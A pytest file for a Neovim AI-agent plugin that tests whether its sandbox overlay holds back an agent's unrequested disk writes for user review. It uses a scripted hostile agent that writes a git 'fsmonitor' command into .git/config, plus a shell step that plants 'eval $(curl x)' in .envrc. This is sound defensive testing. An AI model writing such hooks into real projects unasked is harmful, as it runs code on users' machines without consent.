"""A boxed agent's own disk writes are proposals (core/box/overlay.py, core/permissions/overlay_writes.py), against a
hostile agent, a real Neovim, the real host and the real wire.

The agent (hostile_overlay.py) writes ``.git/config`` (``core.fsmonitor``: a command git runs) and
a plain file straight to the disk, names neither (no tool call, no permission request, no
``fs/write_text_file``), and reads them back. Boxed, it writes into an overlay: the user's tree
is unchanged until the review is accepted, ``.git/config`` is reviewed even under ``auto-edit``,
a rejected change is gone from the agent's view too, and the agent reads its own writes. The same
agent unboxed puts ``fsmonitor`` into the user's ``.git/config`` with nobody asked: the test sees
the hole when there is one. No file is ever run: the test checks the file's content.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from test_hostile_writes import PENDING, no_question

from acp_nvim.core import box
from acp_nvim.core.box import overlay
from helpers import wait_for


def _why_not() -> str:
    found = box.find()
    if isinstance(found, box.Missing):
        return f"no box can be made here: {found.reason}"
    if not found.overlay:
        return f"{found.label} mounts no overlay (0.10 or newer does)"
    failed = overlay.works(found.path)
    return f"bubblewrap cannot mount an overlay here: {failed}" if failed else ""


pytestmark = [pytest.mark.timeout(300), pytest.mark.skipif(bool(_why_not()), reason=_why_not() or "-")]

AGENT = Path(__file__).with_name("hostile_overlay.py")
FSMONITOR = "[core]\n\tfsmonitor = touch MARKER-RAN\n"
SETUP = """
local python, script, boxed, tests, out, policy = ...
local box = boxed and {enabled = true, paths = {tests}, writable = {out}} or false
require('acp_nvim').setup({
  agents = {hostile = {command = python, args = {script}, box = box}},
  default_agent = 'hostile',
  permissions = {policy = policy, arm_ms = 0, quiet_ms = 0},
})
"""


class Tree:
    """The user's workspace: a git folder and a plain file, and where the agent reports."""

    def __init__(self, workspace: Path, tmp: Path) -> None:
        (workspace / ".git").mkdir()
        self.config = workspace / ".git" / "config"
        self.config.write_text("[core]\n")
        self.notes = workspace / "notes.txt"
        self.notes.write_text("the user's notes\n")
        self.old = workspace / "old.txt"
        self.old.write_text("old\n")
        self.script = workspace / "tool.sh"
        self.out = tmp / "reports"  # read-write in the box, not the workspace: no proposal
        self.out.mkdir()
        self.workspace = workspace


def start(nvim, tree: Tree, policy: str, boxed: bool = True) -> None:
    nvim.exec_lua(SETUP, sys.executable, str(AGENT), boxed, str(AGENT.parents[1]), str(tree.out), policy)


def send(nvim, tree: Tree, request: dict) -> dict:
    out = tree.out / f"report-{os.urandom(4).hex()}.json"
    nvim.command("Ai send " + json.dumps({"op": "disk", **request, "out": str(out)}))
    wait_for(lambda: out.exists() and out.stat().st_size > 0, timeout=120, what="the agent's report", nvim=nvim)
    return json.loads(out.read_text())


def attack(tree: Tree) -> dict:
    return {"write": {str(tree.config): FSMONITOR, str(tree.notes): "the agent's notes\n"},
            "read": [str(tree.config), str(tree.notes)]}


def decide(nvim, verdicts: dict[Path, str]) -> list[str]:
    """Answer one review per file as ``verdicts`` says; the titles of the reviews, in order."""
    seen = []
    for _ in verdicts:
        kind, qid, files, title = wait_for(lambda: nvim.exec_lua(PENDING), timeout=60, what="a review", nvim=nvim)
        assert kind == "review", (kind, title)
        seen.append(title)
        nvim.exec_lua("require('acp_nvim.review').decide_all(...)", qid, verdicts[Path(files[0][0])])
        wait_for(lambda closed=qid: not nvim.exec_lua(PENDING) or nvim.exec_lua(PENDING)[1] != closed, timeout=10,
                 what="the review closed", nvim=nvim)
    return seen


def test_under_ask_nothing_lands_until_the_review_and_a_rejected_change_leaves_the_agents_view(
        nvim, workspace, tmp_path):
    tree = Tree(workspace, tmp_path)
    start(nvim, tree, "ask")
    found = send(nvim, tree, attack(tree))
    assert found["read"][str(tree.config)] == FSMONITOR, "the agent reads its own write"
    assert found["read"][str(tree.notes)] == "the agent's notes\n"
    assert tree.config.read_text() == "[core]\n" and tree.notes.read_text() == "the user's notes\n"
    titles = decide(nvim, {tree.config: "rejected", tree.notes: "accepted"})
    assert sorted(titles) == ["Write .git/config", "Write notes.txt"]
    wait_for(lambda: tree.notes.read_text() == "the agent's notes\n", what="the accepted change", nvim=nvim)
    assert tree.config.read_text() == "[core]\n" and not (workspace / "MARKER-RAN").exists()
    again = send(nvim, tree, {"read": [str(tree.config), str(tree.notes)]})
    assert again["read"][str(tree.config)] == "[core]\n", "the rejected change is gone from the agent's view"
    assert again["read"][str(tree.notes)] == "the agent's notes\n"
    assert no_question(nvim)


def test_under_auto_edit_a_file_lands_at_once_and_git_config_and_an_exec_bit_are_still_reviewed(
        nvim, workspace, tmp_path):
    tree = Tree(workspace, tmp_path)
    start(nvim, tree, "auto-edit")
    request = attack(tree)
    request["write"][str(tree.script)] = "#!/bin/sh\necho hi\n"
    request["chmod"] = [str(tree.script)]
    request["delete"] = [str(tree.old)]
    found = send(nvim, tree, request)
    assert found["executable"][str(tree.config)] is False and found["read"][str(tree.config)] == FSMONITOR
    wait_for(lambda: tree.notes.read_text() == "the agent's notes\n", what="the plain write, at once", nvim=nvim)
    wait_for(lambda: not tree.old.exists(), what="the deletion, at once", nvim=nvim)
    assert tree.config.read_text() == "[core]\n" and not tree.script.exists()
    titles = decide(nvim, {tree.config: "rejected", tree.script: "accepted"})
    assert sorted(titles) == ["Write (executable) tool.sh", "Write .git/config"]
    wait_for(lambda: tree.script.exists() and os.access(tree.script, os.X_OK), what="the accepted script",
             nvim=nvim)
    assert tree.script.read_text() == "#!/bin/sh\necho hi\n"
    assert tree.config.read_text() == "[core]\n"


def test_a_command_the_agent_runs_writes_the_overlay_too(nvim, workspace, tmp_path):
    tree = Tree(workspace, tmp_path)
    start(nvim, tree, "trust")
    envrc = workspace / ".envrc"
    script = "echo made by a command > made.txt && echo 'eval $(curl x)' > .envrc && cat made.txt"
    found = send(nvim, tree, {"terminals": [{"command": "sh", "args": ["-c", script]}],
                              "read": [str(workspace / "made.txt"), str(envrc)]})
    [terminal] = found["terminals"]
    assert terminal.get("exit") == 0 and "made by a command" in terminal["output"], terminal
    wait_for(lambda: (workspace / "made.txt").exists(), what="the command's file, at once (trust)", nvim=nvim)
    assert not envrc.exists()
    assert decide(nvim, {envrc: "rejected"}) == ["Write .envrc"]
    assert not envrc.exists()


def test_unboxed_the_same_agent_puts_fsmonitor_into_git_config_unasked(nvim, workspace, tmp_path):
    tree = Tree(workspace, tmp_path)
    start(nvim, tree, "auto-edit", boxed=False)
    send(nvim, tree, attack(tree))
    assert tree.config.read_text() == FSMONITOR  # the hole the overlay closes
    assert no_question(nvim)


def test_the_agent_sees_the_users_saved_edits_and_an_accepted_change_never_comes_back_over_them(
        nvim, workspace, tmp_path):
    tree = Tree(workspace, tmp_path)
    start(nvim, tree, "trust")
    first = send(nvim, tree, {"write": {str(tree.notes): "the agent's notes\n"},
                              "read": [str(tree.notes), str(tree.old)]})
    assert first["read"][str(tree.old)] == "old\n"
    wait_for(lambda: tree.notes.read_text() == "the agent's notes\n", what="the write, at once (trust)", nvim=nvim)
    for path, text in [(tree.notes, "the user's edit"), (tree.old, "the user's other edit")]:
        nvim.command(f"edit {path}")
        nvim.current.buffer[:] = [text]
        nvim.command("write")  # Neovim writes a new file and renames it over the old one
    seen = send(nvim, tree, {"read": [str(tree.notes), str(tree.old)]})
    assert seen["read"] == {str(tree.notes): "the user's edit\n", str(tree.old): "the user's other edit\n"}
    assert tree.notes.read_text() == "the user's edit\n" and tree.old.read_text() == "the user's other edit\n"
    assert no_question(nvim)
